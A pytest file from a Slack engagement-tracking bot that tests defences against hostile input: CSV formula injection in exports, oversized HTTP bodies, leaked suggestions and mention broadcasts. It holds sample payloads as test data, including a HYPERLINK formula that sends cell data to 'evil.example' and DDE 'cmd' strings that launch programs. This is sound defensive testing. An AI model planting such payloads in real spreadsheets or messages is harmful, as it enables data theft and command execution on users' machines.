"""Input written to attack: what a person types, or sends at the HTTP endpoint, must not turn
into something that acts on someone else (issue 16: a formula in the lead's spreadsheet, a
body that exhausts memory, a suggestion that names what the asker may not see, a mention
that pings a whole channel)."""

from __future__ import annotations

import socket
import time
import urllib.parse
from datetime import timedelta

import pytest
from conftest import (
    ADMIN,
    DIGEST,
    EXTERNAL,
    HANG_BOUND_S,
    LEAD,
    OUTSIDER,
    SHARED,
    SIGNING_SECRET,
    STAKEHOLDER,
    TEAM,
    VENDOR,
)
from engine_flows import schedule, tick
from flows import create_engagement, text_of, wait_reply
from slack_requests import SlackSim, sign
from sqlmodel import select
from test_cli_and_serving import free_port, procfile_command, serving, slack_env
from test_concerns import raise_by_command
from test_export import START, export_files, submit_form
from test_risk_reviews import ANSWERED_AT, open_review
from test_risk_reviews import SLOT as REVIEW_SLOT
from test_risk_reviews import submit as review_submit

from bot.entry.wsgi import MAX_BODY_BYTES, SLACK_PATH
from bot.platform import clock
from storage.models import Concern, StatusUpdate

# --- exports that cannot attack --------------------------------------------------------------

# What a spreadsheet takes for a formula (OWASP, "CSV Injection"): a cell starting with one of
# these. Each is typed into a different field that the export writes.
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
TYPED = {
    "=": FORMULA,
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
}


def hostile_record(cadence) -> None:
    with clock.fixed_at(START - timedelta(days=1)):
        create_engagement(cadence)
    with clock.fixed_at(START):
        submit_form(cadence, "update acme-payments",
                    {"rag": "amber", "reason": TYPED["+"], "summary": TYPED["="],
                     "accomplishments": TYPED["-"], "kpi_1": "99.95", "kpi_2": "-5"},
                    user=VENDOR)  # fmt: skip
        submit_form(cadence, "feedback acme-payments",
                    {"communication": "2", "quality": "3", "timeliness": "2", "overall": "2",
                     "comment": TYPED["-"]}, user=STAKEHOLDER)  # fmt: skip
        raise_by_command(cadence, "concern acme-payments Keys in email",
                         {"severity": "high", "category": "security", "title": TYPED["@"]},
                         user=LEAD)  # fmt: skip
    # Every form strips what was typed, so no cell starts with a tab or a carriage return
    # today; rows written another way (an earlier version, an import) still may, and the
    # export must not rely on every way in stripping them.
    with cadence.db.session() as session:
        update = session.exec(select(StatusUpdate)).one()
        update.next_steps = "\t=1+1"
        concern = session.exec(select(Concern)).one()
        concern.resolution_note = "\r=1+1"


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_an_exported_cell_never_starts_a_formula(cadence, lead):
    hostile_record(cadence)
    _, tables = export_files(cadence, "export acme-payments")
    cells = [
        value
        for table in tables.values()
        for row in table
        for value in row.values()
        if isinstance(value, str)
    ]
    # Everything people typed arrived, each one neutralised by a leading quote.
    typed = {**TYPED, "\t": "\t=1+1", "\r": "\r=1+1"}[lead]
    assert "'" + typed in cells, (lead, typed)
    assert not [c for c in cells if c.startswith(lead) and not number(c)], lead


def number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_numbers_cadence_writes_stay_numbers(cadence):
    hostile_record(cadence)
    _, tables = export_files(cadence, "export acme-payments")
    uptime, resolve = tables["kpi_values.csv"]
    assert (uptime["value"], resolve["value"]) == ("99.95", "-5.0")
    (update,) = tables["updates.csv"]
    assert update["summary"] == "'" + FORMULA
    (concern,) = tables["concerns.csv"]
    assert concern["title"] == "'" + TYPED["@"]


# --- bodies bounded before parsing -------------------------------------------------------------

HUGE = 200 * 1024 * 1024


def post_raw(
    url: str, headers: dict[str, str], body: bytes, timeout: float = 10
) -> tuple[int, float]:
    """POST `body` to /slack/events exactly as given (a declared length the body need not
    have, a chunked encoding urllib would not send); the status and how long the answer took."""
    address = urllib.parse.urlsplit(url)
    head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    request = f"POST {SLACK_PATH} HTTP/1.1\r\nHost: {address.netloc}\r\n{head}\r\n".encode()
    start = time.monotonic()
    with socket.create_connection((address.hostname, address.port), timeout=timeout) as s:
        s.sendall(request + body)
        answer = b""
        while b"\r\n" not in answer:
            chunk = s.recv(4096)
            if not chunk:
                break
            answer += chunk
    status = int(answer.split(b" ", 2)[1])
    return status, time.monotonic() - start


def chunked(body: bytes, size: int = 64 * 1024) -> bytes:
    parts = [body[i : i + size] for i in range(0, len(body), size)]
    return b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in parts) + b"0\r\n\r\n"


def declares_200_mib(url: str) -> tuple[int, float]:
    """Says 200 MiB are coming, sends 100 bytes and waits: an app that read the body would
    wait for the rest until the client gave up."""
    headers = {
        "Content-Type": "application/x-www-form-urlencoded",
        "Content-Length": str(HUGE),
    }
    return post_raw(url, headers, b"x" * 100)


def test_a_declared_body_over_the_limit_is_refused_at_once(cadence):
    status, took = declares_200_mib(cadence.url)
    assert status == 413 and took < HANG_BOUND_S, (status, took)
    # Just over the limit too, and a length that is no number.
    over = b"x" * (MAX_BODY_BYTES + 1)
    assert post_raw(cadence.url, {"Content-Length": str(len(over))}, over)[0] == 413
    assert post_raw(cadence.url, {"Content-Length": "-1"}, b"")[0] == 400
    # A signed request still works.
    assert "/cadence engagement new" in text_of(cadence.sim.command("help").json)


@pytest.mark.slow
def test_the_procfile_web_process_refuses_over_size_bodies(
    tmp_path, fake_slack, sqlite_migrated_url
):
    """The Procfile's gunicorn line, run for real: a declared 200 MiB and a chunked body over
    the limit are refused; a chunked body within it, signed, is read and answered."""
    port = free_port()
    env = slack_env(fake_slack, sqlite_migrated_url, port)
    with serving(procfile_command("web", port), cwd=tmp_path, env=env, port=port) as url:
        status, took = declares_200_mib(url)
        assert status == 413 and took < HANG_BOUND_S, (status, took)

        status, _ = post_raw(
            url,
            {"Content-Type": "application/x-www-form-urlencoded", "Transfer-Encoding": "chunked"},
            chunked(b"x" * (MAX_BODY_BYTES + 64 * 1024)),
        )
        assert status == 413

        sim = SlackSim(url, fake_slack, SIGNING_SECRET, team_id=TEAM)
        assert "/cadence engagement new" in text_of(sim.command("help").json)
        body = urllib.parse.urlencode(
            {"command": "/cadence", "text": "help", "team_id": TEAM, "user_id": LEAD,
             "channel_id": "C0GENERAL", "response_url": fake_slack.response_url("chunked"),
             "trigger_id": "1.2.3"}
        )  # fmt: skip
        headers = {**sign(body, SIGNING_SECRET), "Transfer-Encoding": "chunked"}
        status, _ = post_raw(url, headers, chunked(body.encode(), size=100))
        assert status == 200


# --- suggestions only among what the asker may see ---------------------------------------------

GUEST = "W0GUEST"  # another organisation's person in a shared channel, on no engagement
MISTYPED = (
    "status initech-data",
    "update initech-data",
    "feedback initech-data",
    "concern initech-data",
    "concerns initech-data",
    "export initech-data",
    "cadences initech-data",
    "schedule initech-data",
    "engagement edit initech-data",
)


def initech(cadence) -> None:
    create_engagement(
        cadence, name="Initech Data Breach Response", vendor="Initech", channel=SHARED,
        vendor_contacts=[VENDOR], stakeholders=[],
    )  # fmt: skip


def answer_to(cadence, text: str, user: str) -> str:
    reply = cadence.sim.command(text, user=user, channel=SHARED)
    assert reply.status == 200, reply.body
    return text_of(wait_reply(cadence, reply))


def test_a_guest_of_another_organisation_is_never_told_a_handle_it_may_not_see(cadence):
    cadence.fake.add_user(GUEST, name="gus.guest", tz="UTC", team_id="T0ELSEWHERE")
    initech(cadence)
    for text in MISTYPED:
        said = answer_to(cadence, text, GUEST)
        assert "There is no engagement `initech-data`" in said, (text, said)
        assert "initech-data-breach-response" not in said, (text, said)
        assert "Did you mean" not in said, (text, said)


def test_a_workspace_member_and_a_guest_on_it_still_get_the_suggestion(cadence):
    initech(cadence)
    create_engagement(cadence, vendor_contacts=[EXTERNAL])  # Acme Payments, EXTERNAL is on it
    for text in MISTYPED:
        said = answer_to(cadence, text, OUTSIDER)  # a member of the workspace, on neither
        assert "Did you mean `initech-data-breach-response`?" in said, (text, said)
    # A vendor contact of another organisation is told of the engagement they are on only.
    said = answer_to(cadence, "status acme-payment", EXTERNAL)
    assert "Did you mean `acme-payments`?" in said, said
    said = answer_to(cadence, "status initech-data", EXTERNAL)
    assert "initech-data-breach-response" not in said and "Did you mean" not in said, said


# --- what a person typed never mentions anyone ---------------------------------------------------

HOSTILE = "<!channel> pwned <@U0LEAD>"
ESCAPED = "&lt;!channel&gt; pwned &lt;@U0LEAD&gt;"
NAME = "Acme <!here> Payments"  # an engagement's name is typed by whoever creates it
HANDLE = "acme-here-payments"
# What Slack would turn into a mention or a broadcast, wherever it reads mrkdwn.
RAW = ("<!channel>", "<!here>", "<!subteam", "pwned <@U0LEAD>")


def mrkdwn_of(payload: object) -> list[str]:
    """Every text of a message that Slack reads as mrkdwn: the top-level `text` (the
    notification and what a phone shows) and every mrkdwn text object in its blocks (a
    plain_text object shows `<!here>` as typed, and never notifies)."""
    if not isinstance(payload, dict):
        return []
    found = [payload["text"]] if isinstance(payload.get("text"), str) else []

    def walk(node: object) -> None:
        if isinstance(node, dict):
            if node.get("type") == "mrkdwn" and isinstance(node.get("text"), str):
                found.append(node["text"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(payload.get("blocks"))
    return found


def test_nothing_a_person_typed_mentions_anyone_in_any_message(cadence, monkeypatch):
    with clock.fixed_at(REVIEW_SLOT - timedelta(days=1)):
        create_engagement(cadence, name=NAME, vendor="Globex <!subteam^S0ALL>",
                          stakeholders=[STAKEHOLDER], digest_channel=DIGEST)  # fmt: skip
    schedule(cadence, REVIEW_SLOT - timedelta(hours=1), HANDLE, kind="risk_review",
             rule_weekdays=["0"], rule_local_time="10:00", rule_timezone="UTC",
             audience="chosen", audience_users=[VENDOR])  # fmt: skip
    tick(cadence, monkeypatch, REVIEW_SLOT)
    with clock.fixed_at(REVIEW_SLOT + timedelta(minutes=5)):
        raise_by_command(cadence, f"concern {HANDLE} {HOSTILE}",
                         {"severity": "critical", "category": "security",
                          "description": HOSTILE}, user=STAKEHOLDER)  # fmt: skip
        submit_form(cadence, f"update {HANDLE}",
                    {"rag": "red", "reason": HOSTILE, "summary": HOSTILE, "blockers": HOSTILE,
                     "kpi_1": "90"}, user=VENDOR)  # fmt: skip
        submit_form(cadence, f"feedback {HANDLE}",
                    {"communication": "2", "quality": "3", "timeliness": "2", "overall": "2",
                     "comment": HOSTILE}, user=STAKEHOLDER)  # fmt: skip
    view = open_review(cadence)
    review_submit(cadence, view, {"status_1": "mitigated", "note_1": HOSTILE})
    with clock.fixed_at(ANSWERED_AT):
        replies = [
            cadence.sim.command(f"status {HANDLE}", user=LEAD),
            cadence.sim.command("digest send", user=ADMIN),
        ]
    tick(cadence, monkeypatch, REVIEW_SLOT + timedelta(days=3))  # deadlines passed: alerts
    cadence.wait_until(lambda: cadence.fake.calls_to("files.completeUploadExternal"),
                       what="the digest's chart")  # fmt: skip

    sent = [
        c.args
        for method in ("chat.postMessage", "chat.update", "chat.postEphemeral")
        for c in cadence.fake.calls_to(method)
    ]
    sent += [r.body for r in cadence.fake.responses] + [r.json for r in replies]
    texts = [t for payload in sent for t in mrkdwn_of(payload)]
    mentioning = [t for t in texts if any(raw in t for raw in RAW)]
    assert mentioning == [], "\n".join(mentioning)
    # Each kind of message that shows what was typed was sent, escaped: the concern's card,
    # DMs and alerts, the update's summary and the leads' alert, the review's record, the
    # health card and the digest.
    shown = [t for t in texts if ESCAPED in t or "Acme &lt;!here&gt; Payments" in t]
    assert len(shown) >= 10, texts
